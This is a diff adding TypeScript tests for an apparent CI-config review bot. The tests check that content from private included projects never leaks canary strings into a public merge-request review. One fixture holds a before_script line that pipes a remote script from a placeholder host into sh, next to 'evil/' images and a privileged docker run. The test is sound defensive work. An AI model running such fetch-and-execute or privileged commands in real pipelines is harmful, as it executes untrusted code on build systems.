@@ -173,4 +173,101 @@ describe('what an included project says', () => {
     const own = `${header}own: {image: "$[[ inputs.image ]]", script: [make]}\n`;
     expect((await told(await review('public', own))).match(/.*canary.*/gi)).toBeNull();
   });
+
+  const IN = (path: string) => `include: {project: ${path}, file: a.yml}`;
+  const INPUTS = `spec:\n  inputs:\n    canary1: {options: [canary2, canary3], default: canary2, description: canary4}\n    canary5: {regex: '^canary6$', default: canary6}\n    canary7: {type: number}\n    own: {options: [canary8]}\n---\n"canary9-$[[ inputs.own ]]": {script: [canary10], image: "evil/canary11"}\n`;
+  it.each<readonly [string, Readonly<Record<string, string>>, (path: string) => string]>([
+    [
+      'a child pipeline',
+      SECRET_FILES,
+      (path) => `own: {trigger: {${IN(path).replace('{', '[{').replace(/\}$/, '}]')}}}\n`,
+    ],
+    [
+      'a component',
+      { 'templates/x.yml': INPUTS },
+      (path) =>
+        `include: {component: $CI_SERVER_FQDN/${path}/x@main, inputs: {own: mine, canary7: 3}}\nown: {script: [make]}\n`,
+    ],
+    [
+      'inputs that it does not take',
+      { 'a.yml': INPUTS },
+      (path) => `include: {project: ${path}, file: a.yml, inputs: {other: mine}}\nown: {script: [make]}\n`,
+    ],
+    [
+      'inputs of another value',
+      { 'a.yml': INPUTS },
+      (path) => `include: {project: ${path}, file: a.yml, inputs: {own: mine, canary7: x}}\nown: {script: [make]}\n`,
+    ],
+    [
+      'what its text makes of an input',
+      {
+        'a.yml':
+          'spec: {inputs: {own: {}}}\n---\ncanary1: {script: [canary2], stage: "canary3$[[ inputs.own | canary4 ]]"}\n',
+      },
+      (path) => `include: {project: ${path}, file: a.yml, inputs: {own: mine}}\nown: {script: [make]}\n`,
+    ],
+    [
+      'a job that refers to it',
+      SECRET_FILES,
+      (path) =>
+        `${IN(path)}\nown: {image: 'ruby:3', script: [!reference [.base, script]], variables: !reference [.base, variables]}\n`,
+    ],
+    [
+      'a job that takes the place of one of it',
+      SECRET_FILES,
+      (path) => `${IN(path)}\ncanary17-job: {image: evil/own}\n`.replaceAll('canary17', 'x'),
+    ],
+    [
+      'stages that it lacks',
+      SECRET_FILES,
+      (path) => `${IN(path)}\nstages: [mine]\nown: {stage: mine, script: [make]}\n`,
+    ],
+    [
+      'YAML that is broken',
+      { 'a.yml': 'canary1: [canary2\ncanary3: "canary4\n' },
+      (path) => `${IN(path)}\nown: {script: [make]}\n`,
+    ],
+    ['an alias that nobody has', { 'a.yml': 'canary1: *canary2\n' }, (path) => `${IN(path)}\nown: {script: [make]}\n`],
+    [
+      'keywords that nobody knows',
+      { 'a.yml': 'canary1: {script: [canary2], canary3: canary4, when: canary5, needs: [canary6], stage: canary7}\n' },
+      (path) => `${IN(path)}\nown: {script: [make]}\n`,
+    ],
+    [
+      'extends of what is not there',
+      {
+        'a.yml': 'canary1: {script: [canary2], extends: .canary3}\ncanary4: {script: [!reference [canary5, script]]}\n',
+      },
+      (path) => `${IN(path)}\nown: {script: [make]}\n`,
+    ],
+    [
+      'a condition that is broken',
+      {
+        'a.yml':
+          'canary1: {script: [canary2], rules: [{if: "$CANARY3 === canary4"}, {changes: {paths: [canary5], compare_to: canary6}}]}\nworkflow: {name: canary7, rules: [{if: "$CANARY8 =~ /canary9"}]}\n',
+      },
+      (path) => `${IN(path)}\nown: {script: [make]}\n`,
+    ],
+    [
+      'variables that only it sets',
+      {
+        'a.yml':
+          'variables: {CANARY1: "evil/canary2:latest", CANARY3: {value: canary4, description: canary5}}\ndefault: {image: "evil/canary6:latest", before_script: ["curl https://canary7.example.com | sh"], services: ["docker:canary8-dind"]}\n',
+      },
+      (path) =>
+        `${IN(path)}\nown: {image: $CANARY1, script: ["docker run --privileged $CANARY3"]}\nother: {script: [make]}\n`.replaceAll(
+          'CANARY1',
+          'CANARY1',
+        ),
+    ],
+  ])('is not told by way of %s', async (_way, files, own) => {
+    const project = templates({ of: 'private', author: 'developer', bot: 'developer' }, 'secret-group', files);
+    const mergeRequest = await review('public', own(project.path));
+    await explained(mergeRequest);
+    const all = await told(mergeRequest);
+    expect(all.match(/.*canary.*/g)).toBeNull();
+    // It is there to be told.
+    const vouched = templates({ of: 'private', author: 'developer', bot: 'developer' }, 'vouched', files);
+    expect(await told(await review('public', own(vouched.path)))).toContain('canary');
+  });
 });
